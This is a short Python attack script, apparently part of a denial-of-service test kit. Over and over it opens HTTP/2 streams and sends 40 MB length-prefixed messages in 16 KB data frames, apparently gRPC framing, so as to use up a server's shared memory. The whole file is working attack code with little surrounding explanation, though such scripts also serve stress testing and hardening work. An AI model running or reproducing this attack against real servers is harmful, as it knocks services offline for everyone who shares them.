#!/usr/bin/python3
"""Messages of 40 MB, which no server of a small model expects: they use up the memory that all connections share."""

from stranger import DATA, frame, main

SIZE = 40 << 20
PIECE = 16 << 10


def attack(connection, over):
    stream = 1
    while not over():
        connection.open(stream)
        left = SIZE
        connection.send(frame(DATA, 0, stream, b"\0" + SIZE.to_bytes(4, "big")))
        while left and not over():
            room = min(connection.window[0], connection.window[stream], PIECE, left)
            if room > 0:
                connection.send(frame(DATA, 0, stream, bytes(room)))
                connection.window[0] -= room
                connection.window[stream] -= room
                left -= room
            connection.read(0 if room > 0 else 0.1)
        stream += 2


if __name__ == "__main__":
    main(attack, __doc__)
